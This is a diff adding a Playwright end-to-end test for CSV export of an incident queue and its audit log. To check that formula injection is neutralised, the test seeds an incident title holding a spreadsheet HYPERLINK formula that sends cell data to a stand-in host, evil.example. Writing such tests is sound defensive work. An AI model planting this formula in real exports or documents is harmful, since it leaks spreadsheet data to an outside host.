@@ -1,8 +1,12 @@
+import { readFileSync } from "node:fs";
+
 import { expect, test } from "@playwright/test";
+import { parse } from "csv-parse/sync";
 
 import { PROSEWARE_TENANT_ID } from "@/tests/support/seed-ids";
 
 import { E2E } from "../stack";
+import { raiseIncident } from "../support/incidents";
 import { onboardTenant } from "../support/onboarding";
 import { signInAs } from "../support/sign-in";
 
@@ -75,4 +79,46 @@ test("an analyst works the all-tenants queue from the store; hostile incident te
   await page.getByRole("button", { name: "Apply" }).click();
   await expect(page.locator("tbody tr")).toHaveCount(1);
   expect(scripts).toEqual([]);
+});
+
+test("an analyst exports the queue's view as CSV, every page and only its filters; a formula in a customer's title arrives inert; the export is audited", async ({ page, request }) => {
+  // A title chosen by an attacker, which a spreadsheet would run as a formula.
+  const title = `=HYPERLINK("https://evil.example/?d="&A1,"Open report ${Date.now()}")`;
+  await raiseIncident(request, PROSEWARE_TENANT_ID, title, { severity: "high" });
+  await signInAs(page, "Sam Analyst", "/incidents?range=180d");
+  await page.getByRole("button", { name: "Refresh" }).click();
+  await expect(page.getByRole("status").filter({ hasText: "Refreshed" })).toContainText("Refreshed 2 of 2 tenants", { timeout: 30_000 });
+
+  for (const filter of ["", "&severity=high"]) {
+    await page.goto(`/incidents?range=180d${filter}&page=2`);
+    const shown = async () => Number((await page.getByText(/^[\d,]+ incidents$/).innerText()).replace(/\D/g, ""));
+    const before = await shown();
+    const download = page.waitForEvent("download");
+    await page.getByRole("link", { name: "Export CSV" }).click();
+    const csv = readFileSync((await (await download).path())!, "utf8");
+    const [header, ...rows] = parse(csv, { bom: true }) as string[][];
+    expect(header.slice(0, 5)).toEqual(["Tenant", "Tenant id", "Incident id", "Title", "Severity"]);
+    // The emulator's tenants raise incidents of their own: the export holds what the queue counted then, or a moment later.
+    await page.reload();
+    expect([before, await shown()]).toContain(rows.length);
+    expect(new Set(rows.map(([, tenantId, id]) => `${tenantId}/${id}`)).size).toBe(rows.length);
+    if (filter) expect(new Set(rows.map((row) => row[4]))).toEqual(new Set(["high"]));
+    expect(rows.find((row) => row[3].includes("evil.example"))?.[3]).toBe(`'${title}`);
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  }
+
+  // The audit log is an admin's to export.
+  expect((await page.context().request.get("/api/audit/export")).status()).toBe(403);
+  await page.getByRole("button", { name: "Sign out" }).click();
+  await expect(page.getByRole("button", { name: "Sign in with Microsoft" })).toBeVisible();
+  await signInAs(page, "Avery Admin", "/audit?action=incidents.exported");
+  await expect(page.getByRole("row").filter({ hasText: "Incidents exported (CSV)" }).filter({ hasText: "analyst@northwind-partners.example" })).toHaveCount(2);
+  const download = page.waitForEvent("download");
+  await page.getByRole("link", { name: "Export CSV" }).click();
+  const [header, ...events] = parse(readFileSync((await (await download).path())!, "utf8"), { bom: true }) as string[][];
+  expect(header.slice(0, 4)).toEqual(["Time (UTC)", "Who", "What", "Action"]);
+  expect(new Set(events.map((event) => `${event[2]} / ${event[3]}`))).toEqual(new Set(["Incidents exported (CSV) / incidents.exported"]));
+  const analysts = events.filter((event) => event[1] === "analyst@northwind-partners.example");
+  expect(analysts).toHaveLength(2);
+  expect(JSON.parse(analysts[0][6])).toMatchObject({ filters: { range: "180d", severity: ["high"] } });
 });
